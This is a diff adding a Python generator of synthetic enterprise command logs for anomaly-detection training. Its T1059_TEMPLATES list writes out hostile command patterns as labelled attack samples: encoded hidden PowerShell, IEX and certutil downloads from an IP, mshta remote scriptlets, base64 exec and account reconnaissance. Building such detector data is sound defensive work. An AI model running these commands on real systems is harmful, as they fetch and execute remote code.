@@ -0,0 +1,433 @@
+# utils/data_generator.py
+"""
+Vectorized synthetic enterprise command-log generator.
+
+Reproduces the Enterprise A/B/C profiles of data/data_generation.ipynb
+(parent -> child process matrices, hosts/users/roles, working hours,
+PowerShell-style command templates, 5% anomalies) with NumPy sampling
+over whole chunks instead of one Python row at a time.
+
+Run from the Project folder:
+    python -m utils.data_generator C 10000000 data/Enterprise_C_10M.csv --seed 7
+"""
+import argparse
+import base64
+import string
+import time
+
+import numpy as np
+import pandas as pd
+
+# -----------------------------
+# Process matrices (from data_generation.ipynb)
+# -----------------------------
+PARENT_CHILD_MATRIX_A = {
+    "explorer.exe": {"notepad.exe": 0.50, "cmd.exe": 0.15, "powershell.exe": 0.05, "python.exe": 0.05,
+                     "wscript.exe": 0.05, "cscript.exe": 0.05, "rundll32.exe": 0.10, "regsvr32.exe": 0.03,
+                     "mshta.exe": 0.02},
+    "cmd.exe": {"cmd.exe": 0.40, "powershell.exe": 0.20, "python.exe": 0.10, "notepad.exe": 0.05,
+                "wscript.exe": 0.10, "cscript.exe": 0.05, "rundll32.exe": 0.05, "regsvr32.exe": 0.03,
+                "mshta.exe": 0.02},
+    "powershell.exe": {"cmd.exe": 0.25, "powershell.exe": 0.25, "python.exe": 0.20, "notepad.exe": 0.10,
+                       "wscript.exe": 0.05, "cscript.exe": 0.05, "rundll32.exe": 0.05, "regsvr32.exe": 0.03,
+                       "mshta.exe": 0.02},
+    "python.exe": {"python.exe": 0.50, "powershell.exe": 0.20, "cmd.exe": 0.15, "notepad.exe": 0.05,
+                   "rundll32.exe": 0.05, "wscript.exe": 0.03, "cscript.exe": 0.02},
+    "wscript.exe": {"cmd.exe": 0.40, "powershell.exe": 0.25, "python.exe": 0.15, "rundll32.exe": 0.10,
+                    "mshta.exe": 0.10},
+    "cscript.exe": {"cmd.exe": 0.35, "powershell.exe": 0.25, "rundll32.exe": 0.20, "mshta.exe": 0.10,
+                    "python.exe": 0.10},
+    "rundll32.exe": {"cmd.exe": 0.25, "powershell.exe": 0.25, "python.exe": 0.25, "rundll32.exe": 0.15,
+                     "mshta.exe": 0.10},
+    "regsvr32.exe": {"cmd.exe": 0.40, "powershell.exe": 0.30, "mshta.exe": 0.20, "python.exe": 0.10},
+    "mshta.exe": {"powershell.exe": 0.40, "cmd.exe": 0.30, "rundll32.exe": 0.20, "python.exe": 0.10},
+    "services.exe": {"cmd.exe": 0.40, "powershell.exe": 0.30, "python.exe": 0.20, "rundll32.exe": 0.10},
+    "svchost.exe": {"cmd.exe": 0.30, "powershell.exe": 0.30, "python.exe": 0.20, "rundll32.exe": 0.20},
+    "winlogon.exe": {"cmd.exe": 0.30, "powershell.exe": 0.30, "rundll32.exe": 0.25, "mshta.exe": 0.15},
+    "taskeng.exe": {"cmd.exe": 0.30, "powershell.exe": 0.30, "python.exe": 0.20, "rundll32.exe": 0.10,
+                    "mshta.exe": 0.10},
+}
+
+CHILD_TARGET_DIST_A = {
+    "explorer.exe": 0.42, "notepad.exe": 0.18, "cmd.exe": 0.12, "powershell.exe": 0.04, "python.exe": 0.03,
+    "wscript.exe": 0.06, "cscript.exe": 0.05, "rundll32.exe": 0.06, "regsvr32.exe": 0.02, "mshta.exe": 0.02,
+}
+
+PARENT_CHILD_MATRIX_B = {
+    "explorer.exe": {"notepad.exe": 0.40, "cmd.exe": 0.15, "powershell.exe": 0.10, "python.exe": 0.10,
+                     "wscript.exe": 0.05, "cscript.exe": 0.05, "rundll32.exe": 0.10, "regsvr32.exe": 0.03,
+                     "mshta.exe": 0.02},
+    "cmd.exe": {"powershell.exe": 0.30, "cmd.exe": 0.20, "python.exe": 0.15, "notepad.exe": 0.05,
+                "wscript.exe": 0.10, "cscript.exe": 0.05, "rundll32.exe": 0.10, "regsvr32.exe": 0.03,
+                "mshta.exe": 0.02},
+    "powershell.exe": {"powershell.exe": 0.30, "cmd.exe": 0.20, "python.exe": 0.20, "notepad.exe": 0.05,
+                       "wscript.exe": 0.05, "cscript.exe": 0.05, "rundll32.exe": 0.10, "regsvr32.exe": 0.03,
+                       "mshta.exe": 0.02},
+    "python.exe": {"python.exe": 0.40, "powershell.exe": 0.20, "cmd.exe": 0.15, "notepad.exe": 0.05,
+                   "rundll32.exe": 0.10, "wscript.exe": 0.05, "cscript.exe": 0.05},
+    "wscript.exe": {"cmd.exe": 0.40, "powershell.exe": 0.25, "python.exe": 0.15, "rundll32.exe": 0.10,
+                    "mshta.exe": 0.10},
+    "cscript.exe": {"cmd.exe": 0.35, "powershell.exe": 0.25, "rundll32.exe": 0.20, "mshta.exe": 0.10,
+                    "python.exe": 0.10},
+    "rundll32.exe": {"cmd.exe": 0.25, "powershell.exe": 0.25, "python.exe": 0.25, "rundll32.exe": 0.15,
+                     "mshta.exe": 0.10},
+    "regsvr32.exe": {"cmd.exe": 0.35, "powershell.exe": 0.25, "mshta.exe": 0.20, "python.exe": 0.20},
+    "mshta.exe": {"powershell.exe": 0.40, "cmd.exe": 0.30, "rundll32.exe": 0.20, "python.exe": 0.10},
+    "services.exe": {"cmd.exe": 0.30, "powershell.exe": 0.30, "python.exe": 0.20, "rundll32.exe": 0.20},
+    "svchost.exe": {"cmd.exe": 0.25, "powershell.exe": 0.25, "python.exe": 0.20, "rundll32.exe": 0.30},
+    "winlogon.exe": {"cmd.exe": 0.25, "powershell.exe": 0.25, "rundll32.exe": 0.30, "mshta.exe": 0.20},
+    "taskeng.exe": {"cmd.exe": 0.25, "powershell.exe": 0.35, "python.exe": 0.20, "rundll32.exe": 0.10,
+                    "mshta.exe": 0.10},
+}
+
+CHILD_TARGET_DIST_B = {
+    "explorer.exe": 0.3, "notepad.exe": 0.14, "cmd.exe": 0.12, "powershell.exe": 0.12, "python.exe": 0.1,
+    "wscript.exe": 0.06, "cscript.exe": 0.05, "rundll32.exe": 0.06, "regsvr32.exe": 0.03, "mshta.exe": 0.02,
+}
+
+PARENT_CHILD_MATRIX_C = {
+    "explorer.exe": {"notepad.exe": 0.25, "cmd.exe": 0.15, "powershell.exe": 0.20, "python.exe": 0.15,
+                     "wscript.exe": 0.05, "cscript.exe": 0.04, "rundll32.exe": 0.08, "regsvr32.exe": 0.02,
+                     "mshta.exe": 0.01},
+    "cmd.exe": {"powershell.exe": 0.30, "cmd.exe": 0.10, "python.exe": 0.20, "wscript.exe": 0.10,
+                "cscript.exe": 0.05, "rundll32.exe": 0.15, "regsvr32.exe": 0.05, "mshta.exe": 0.05,
+                "notepad.exe": 0.00},
+    "powershell.exe": {"cmd.exe": 0.20, "powershell.exe": 0.20, "python.exe": 0.20, "wscript.exe": 0.10,
+                       "cscript.exe": 0.05, "rundll32.exe": 0.15, "regsvr32.exe": 0.05, "mshta.exe": 0.05,
+                       "notepad.exe": 0.00},
+    "python.exe": {"powershell.exe": 0.10, "cmd.exe": 0.10, "python.exe": 0.40, "notepad.exe": 0.10,
+                   "rundll32.exe": 0.10, "wscript.exe": 0.05, "cscript.exe": 0.05, "regsvr32.exe": 0.05,
+                   "mshta.exe": 0.05},
+    "wscript.exe": {"cmd.exe": 0.40, "powershell.exe": 0.20, "python.exe": 0.10, "rundll32.exe": 0.15,
+                    "regsvr32.exe": 0.05, "mshta.exe": 0.10},
+    "cscript.exe": {"cmd.exe": 0.35, "powershell.exe": 0.25, "rundll32.exe": 0.15, "regsvr32.exe": 0.10,
+                    "mshta.exe": 0.15},
+    "rundll32.exe": {"regsvr32.exe": 0.25, "powershell.exe": 0.20, "cmd.exe": 0.20, "mshta.exe": 0.10,
+                     "python.exe": 0.25},
+    "regsvr32.exe": {"cmd.exe": 0.35, "powershell.exe": 0.25, "mshta.exe": 0.10, "rundll32.exe": 0.30},
+    "mshta.exe": {"powershell.exe": 0.30, "cmd.exe": 0.20, "rundll32.exe": 0.25, "regsvr32.exe": 0.25},
+    "services.exe": {"cmd.exe": 0.20, "powershell.exe": 0.25, "python.exe": 0.20, "rundll32.exe": 0.20,
+                     "mshta.exe": 0.15},
+    "svchost.exe": {"cmd.exe": 0.20, "powershell.exe": 0.25, "python.exe": 0.15, "rundll32.exe": 0.20,
+                    "mshta.exe": 0.20},
+    "winlogon.exe": {"cmd.exe": 0.25, "powershell.exe": 0.25, "rundll32.exe": 0.25, "mshta.exe": 0.25},
+    "taskeng.exe": {"cmd.exe": 0.20, "powershell.exe": 0.30, "python.exe": 0.20, "rundll32.exe": 0.15,
+                    "mshta.exe": 0.15},
+}
+
+CHILD_TARGET_DIST_C = {
+    "explorer.exe": 0.24, "notepad.exe": 0.12, "cmd.exe": 0.14, "powershell.exe": 0.18, "python.exe": 0.14,
+    "wscript.exe": 0.06, "cscript.exe": 0.04, "rundll32.exe": 0.05, "regsvr32.exe": 0.02, "mshta.exe": 0.01,
+}
+
+# -----------------------------
+# Enterprise profiles
+# -----------------------------
+# benign_hours: "office" = 8-18 (Fridays 8-14), "office_drift" = office with 5% off-hours, "24/7"
+PROFILES = {
+    "A": {"n_hosts": 3, "n_users": 8, "role_probs": [0.1, 0.9, 0.0],
+          "parent_child": PARENT_CHILD_MATRIX_A, "child_dist": CHILD_TARGET_DIST_A,
+          "benign_hours": "office", "no_weekend": True},
+    "B": {"n_hosts": 8, "n_users": 20, "role_probs": [0.15, 0.8, 0.05],
+          "parent_child": PARENT_CHILD_MATRIX_B, "child_dist": CHILD_TARGET_DIST_B,
+          "benign_hours": "office_drift", "no_weekend": True},
+    "C": {"n_hosts": 20, "n_users": 35, "role_probs": [0.2, 0.7, 0.1],
+          "parent_child": PARENT_CHILD_MATRIX_C, "child_dist": CHILD_TARGET_DIST_C,
+          "benign_hours": "24/7", "no_weekend": False},
+}
+
+ROLES = ["Admin", "Standard", "Service"]
+EXECUTION_RESULTS = ["success", "failure"]
+EXECUTION_PROBS = [0.98, 0.02]
+LABELS = ["benign", "suspicious"]
+
+COLUMNS = [
+    "timestamp", "host_id", "user_id", "user_role", "process_name", "parent_process", "command_text",
+    "script_type", "command_length", "num_arguments", "execution_result", "is_anomaly",
+]
+
+# all rows fall in December 2025; 1 Dec 2025 is a Monday
+YEAR, MONTH, N_DAYS = 2025, 12, 31
+FIRST_WEEKDAY = 0
+
+# -----------------------------
+# Command templates
+# -----------------------------
+BASE_COMMANDS = ["Get-", "Set-", "New-", "Remove-", "Start-", "Stop-"]
+TARGETS = ["Process", "Service", "File", "Registry", "Job"]
+FOLDERS = ["/usr/bin", "/tmp", "C:\\Windows\\Temp", "C:\\Users\\Public"]
+EXTENSIONS = [".txt", ".log", ".py", ".ps1"]
+
+# T1059 sub-technique templates for anomalous rows ({slot} names are filled from ATTACK_SLOTS)
+T1059_TEMPLATES = [
+    "powershell.exe -nop -w hidden -enc {b64}",                                           # .001 PowerShell
+    "powershell -ExecutionPolicy Bypass -File {folder}\\{name}.ps1",                      # .001
+    "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/{name}.ps1')",            # .001
+    "cmd.exe /c whoami /all & net user {user} /domain",                                   # .003 Windows Command Shell
+    "cmd.exe /c certutil -urlcache -split -f http://{ip}/{name}.exe {folder}\\{name}.exe",  # .003
+    "wscript.exe //B //E:vbscript {folder}\\{name}.vbs",                                  # .005 Visual Basic
+    "python -c \"import base64;exec(base64.b64decode('{b64}'))\"",                        # .006 Python
+    "mshta.exe javascript:GetObject('script:http://{ip}/{name}.sct')",                    # .007 JavaScript
+]
+
+
+def _attack_slots(seed=0):
+    rng = np.random.default_rng(seed)
+    return {
+        "b64": [base64.b64encode(rng.bytes(24)).decode() for _ in range(64)],
+        "ip": [f"10.{a}.{b}.{c}" for a, b, c in rng.integers(1, 255, size=(64, 3))],
+        "name": ["update", "svc", "payload", "stage2", "helper", "init", "loader", "sync"],
+        "folder": ["C:\\Windows\\Temp", "C:\\Users\\Public", "C:\\ProgramData", "%APPDATA%"],
+        "user": [f"user_{i:02d}" for i in range(1, 36)],
+    }
+
+
+ATTACK_SLOTS = _attack_slots()
+
+
+# -----------------------------
+# Helpers
+# -----------------------------
+def _as_bytes(values):
+    return np.array([v.encode() for v in values], dtype=bytes)
+
+
+def _process_tables(profile):
+    """
+    Parent sampling probabilities and the parent -> child CDF as dense arrays.
+    Parents are weighted by the child target distribution (0.01 if absent), as in the notebook.
+    """
+    parent_child = profile["parent_child"]
+    parents = list(parent_child)
+    children = sorted({child for row in parent_child.values() for child in row})
+
+    parent_probs = np.array([profile["child_dist"].get(p, 0.01) for p in parents])
+    parent_probs /= parent_probs.sum()
+
+    matrix = np.array([[parent_child[p].get(c, 0.0) for c in children] for p in parents])
+    child_cdf = np.cumsum(matrix / matrix.sum(axis=1, keepdims=True), axis=1)
+    return parents, parent_probs, children, child_cdf
+
+
+def _sample_processes(rng, n, tables):
+    parents, parent_probs, children, child_cdf = tables
+    parent = rng.choice(len(parents), size=n, p=parent_probs)
+    # inverse CDF per row: number of cumulative child probabilities below u
+    u = rng.random(n)
+    child = (child_cdf[parent] <= u[:, None]).sum(axis=1)
+    return parent, np.minimum(child, len(children) - 1)
+
+
+def _sample_hours(rng, is_anomaly, weekday, profile):
+    n = len(is_anomaly)
+    friday_short = (weekday == 4) & profile["no_weekend"]
+    office = np.where(friday_short, rng.integers(8, 15, n), rng.integers(8, 19, n))
+
+    if profile["benign_hours"] == "24/7":
+        benign = rng.integers(0, 24, n)
+    elif profile["benign_hours"] == "office_drift":
+        off_hours = np.r_[18:24, 0:8]
+        benign = np.where(rng.random(n) < 0.05, off_hours[rng.integers(0, len(off_hours), n)], office)
+    else:
+        benign = office
+
+    # anomalies: 90% at night (18-04), 10% inside 8-18
+    night = np.r_[18:24, 0:5]
+    suspicious = np.where(rng.random(n) > 0.1, night[rng.integers(0, len(night), n)], rng.integers(8, 19, n))
+    return np.where(is_anomaly, suspicious, benign)
+
+
+def _timestamp_tables():
+    day_hour = _as_bytes(f"{d:02d}/{MONTH:02d}/{YEAR} {h:02d}:" for d in range(1, N_DAYS + 1) for h in range(24))
+    minute_second = _as_bytes(f"{m:02d}:{s:02d}" for m in range(60) for s in range(60))
+    return day_hour, minute_second
+
+
+TIMESTAMP_TABLES = _timestamp_tables()
+
+
+def _sample_timestamps(rng, is_anomaly, profile):
+    """ dd/mm/YYYY HH:MM:SS strings built from two small lookup tables. """
+    n = len(is_anomaly)
+    days = np.arange(1, N_DAYS + 1)
+    weekdays = (FIRST_WEEKDAY + days - 1) % 7
+    if profile["no_weekend"]:
+        # the notebook redraws Saturdays; drawing from the other days is the same distribution
+        days = days[weekdays != 5]
+
+    day = days[rng.integers(0, len(days), n)]
+    weekday = (FIRST_WEEKDAY + day - 1) % 7
+    hour = _sample_hours(rng, is_anomaly, weekday, profile)
+
+    day_hour, minute_second = TIMESTAMP_TABLES
+    return np.strings.add(day_hour[(day - 1) * 24 + hour], minute_second[rng.integers(0, 3600, n)])
+
+
+def _segment_table():
+    """ Every '<verb><noun> <folder><ext> ' segment the notebook can emit. """
+    segments = [f"{b}{t} {f}{e} " for b in BASE_COMMANDS for t in TARGETS for f in FOLDERS for e in EXTENSIONS]
+    return _as_bytes(segments), np.array([len(s) for s in segments])
+
+
+SEGMENTS = _segment_table()
+
+
+def _sample_commands(rng, is_anomaly):
+    """
+    Concatenate random segments until the target length is reached, then cut to it.
+    The number of segments needed is known from the cumulative segment lengths,
+    so the whole chunk is built with a fixed number of vectorized string adds.
+    """
+    n = len(is_anomaly)
+    target_length = np.where(is_anomaly, rng.integers(40, 101, n), rng.integers(10, 51, n))
+
+    segments, segment_lengths = SEGMENTS
+    max_segments = int(np.ceil(100 / segment_lengths.min())) + 1
+    picks = rng.integers(0, len(segments), size=(n, max_segments))
+
+    cumulative = np.cumsum(segment_lengths[picks], axis=1)
+    num_arguments = (cumulative < target_length[:, None]).sum(axis=1) + 1
+
+    text = segments[picks[:, 0]]
+    for i in range(1, max_segments):
+        needed = num_arguments > i
+        if not needed.any():
+            break
+        text = np.where(needed, np.strings.add(text, segments[picks[:, i]]), text)
+
+    text = np.strings.rstrip(_truncate(text, target_length))
+    return text, num_arguments
+
+
+def _truncate(text, lengths):
+    """ Cut every bytes string of text to its own length (np.strings.slice needs numpy >= 2.3). """
+    text = np.ascontiguousarray(text)
+    width = text.dtype.itemsize
+    chars = text.view(np.uint8).reshape(len(text), width).copy()
+    # trailing NUL bytes are not part of a numpy bytes string
+    chars[np.arange(width) >= lengths[:, None]] = 0
+    return chars.view(text.dtype).ravel()
+
+
+def _fill_templates(rng, n):
+    """ T1059 attack commands: one template per row, slots filled per row. """
+    formatter = string.Formatter()
+    template_ids = rng.integers(0, len(T1059_TEMPLATES), n)
+    text = np.empty(n, dtype=object)
+
+    for t, template in enumerate(T1059_TEMPLATES):
+        rows = np.flatnonzero(template_ids == t)
+        if len(rows) == 0:
+            continue
+        parts = np.full(len(rows), b"", dtype=bytes)
+        for literal, slot, _, _ in formatter.parse(template):
+            parts = np.strings.add(parts, literal.encode())
+            if slot:
+                values = _as_bytes(ATTACK_SLOTS[slot])
+                parts = np.strings.add(parts, values[rng.integers(0, len(values), len(rows))])
+        text[rows] = list(parts)
+
+    text = text.astype(bytes)
+    return text, np.strings.count(text, b" ")
+
+
+# -----------------------------
+# Generation
+# -----------------------------
+def generate_chunk(profile_name, n_rows, rng, anomaly_rate=0.05, t1059_rate=0.0):
+    """
+    One chunk of n_rows synthetic log rows as a DataFrame (columns as in data/Enterprise_X.csv).
+    :param anomaly_rate: fraction of 'suspicious' rows
+    :param t1059_rate: fraction of suspicious rows whose command comes from T1059_TEMPLATES
+                       instead of the notebook's verb-noun commands (0 reproduces the notebook)
+    """
+    if profile_name not in PROFILES:
+        raise ValueError(f"Unknown enterprise profile '{profile_name}'. Available: {', '.join(PROFILES)}")
+    profile = PROFILES[profile_name]
+    tables = _process_tables(profile)
+    parents, _, children, _ = tables
+
+    is_anomaly = rng.random(n_rows) < anomaly_rate
+    command_text, num_arguments = _sample_commands(rng, is_anomaly)
+
+    if t1059_rate > 0:
+        attack = is_anomaly & (rng.random(n_rows) < t1059_rate)
+        if attack.any():
+            attack_text, attack_args = _fill_templates(rng, int(attack.sum()))
+            command_text = command_text.astype(attack_text.dtype if attack_text.itemsize > command_text.itemsize
+                                              else command_text.dtype)
+            command_text[attack] = attack_text
+            num_arguments[attack] = attack_args
+
+    parent, child = _sample_processes(rng, n_rows, tables)
+    hosts = [f"host_{i:02d}" for i in range(1, profile["n_hosts"] + 1)]
+    users = [f"user_{i:02d}" for i in range(1, profile["n_users"] + 1)]
+    role_probs = np.array(profile["role_probs"])
+    scripts = [c.replace(".exe", "") for c in children]
+
+    return pd.DataFrame({
+        "timestamp": np.strings.decode(_sample_timestamps(rng, is_anomaly, profile), "ascii"),
+        "host_id": pd.Categorical.from_codes(rng.integers(0, len(hosts), n_rows), hosts),
+        "user_id": pd.Categorical.from_codes(rng.integers(0, len(users), n_rows), users),
+        "user_role": pd.Categorical.from_codes(rng.choice(len(ROLES), n_rows, p=role_probs / role_probs.sum()),
+                                               ROLES),
+        "process_name": pd.Categorical.from_codes(child, children),
+        "parent_process": pd.Categorical.from_codes(parent, parents),
+        "command_text": np.strings.decode(command_text, "ascii"),
+        "script_type": pd.Categorical.from_codes(child, scripts),
+        "command_length": np.strings.str_len(command_text).astype("int32"),
+        "num_arguments": num_arguments.astype("int16"),
+        "execution_result": pd.Categorical.from_codes(rng.choice(2, n_rows, p=EXECUTION_PROBS), EXECUTION_RESULTS),
+        # the label stays a plain string column, as load_dataset() reads it
+        "is_anomaly": np.array(LABELS)[is_anomaly.astype(np.int8)],
+    }, columns=COLUMNS)
+
+
+def iter_chunks(profile_name, n_rows, chunk_size=500_000, seed=42, anomaly_rate=0.05, t1059_rate=0.0):
+    """
+    Yield DataFrame chunks totalling n_rows.
+    Every chunk gets its own child seed, so the output is reproducible for a given (seed, chunk_size).
+    """
+    n_chunks = max(1, -(-n_rows // chunk_size))
+    seeds = np.random.SeedSequence(seed).spawn(n_chunks)
+
+    for i, chunk_seed in enumerate(seeds):
+        size = min(chunk_size, n_rows - i * chunk_size)
+        yield generate_chunk(profile_name, size, np.random.default_rng(chunk_seed),
+                             anomaly_rate=anomaly_rate, t1059_rate=t1059_rate)
+
+
+def generate_dataset(profile_name, n_rows, seed=42, anomaly_rate=0.05, t1059_rate=0.0, chunk_size=500_000):
+    """ In-memory dataset of n_rows (use write_csv for sizes that do not fit in memory). """
+    return pd.concat(
+        iter_chunks(profile_name, n_rows, chunk_size, seed, anomaly_rate, t1059_rate),
+        ignore_index=True
+    )
+
+
+def write_csv(path, profile_name, n_rows, seed=42, anomaly_rate=0.05, t1059_rate=0.0, chunk_size=500_000):
+    """
+    Stream n_rows to a CSV file chunk by chunk; memory is bounded by chunk_size.
+    """
+    start = time.perf_counter()
+    for i, chunk in enumerate(iter_chunks(profile_name, n_rows, chunk_size, seed, anomaly_rate, t1059_rate)):
+        chunk.to_csv(path, mode="w" if i == 0 else "a", header=(i == 0), index=False)
+
+    print(f"✅ {path} created with {n_rows} rows ({time.perf_counter() - start:.1f}s)")
+    return path
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Generate a synthetic enterprise command-log CSV.")
+    parser.add_argument("profile", choices=list(PROFILES), help="enterprise profile")
+    parser.add_argument("rows", type=int, help="number of rows")
+    parser.add_argument("output", help="output CSV path")
+    parser.add_argument("--seed", type=int, default=42)
+    parser.add_argument("--anomaly-rate", type=float, default=0.05)
+    parser.add_argument("--t1059-rate", type=float, default=0.0,
+                        help="fraction of anomalies using T1059 attack templates")
+    parser.add_argument("--chunk-size", type=int, default=500_000, help="rows generated and written per chunk")
+    args = parser.parse_args()
+
+    write_csv(args.output, args.profile.upper(), args.rows, seed=args.seed, anomaly_rate=args.anomaly_rate,
+              t1059_rate=args.t1059_rate, chunk_size=args.chunk_size)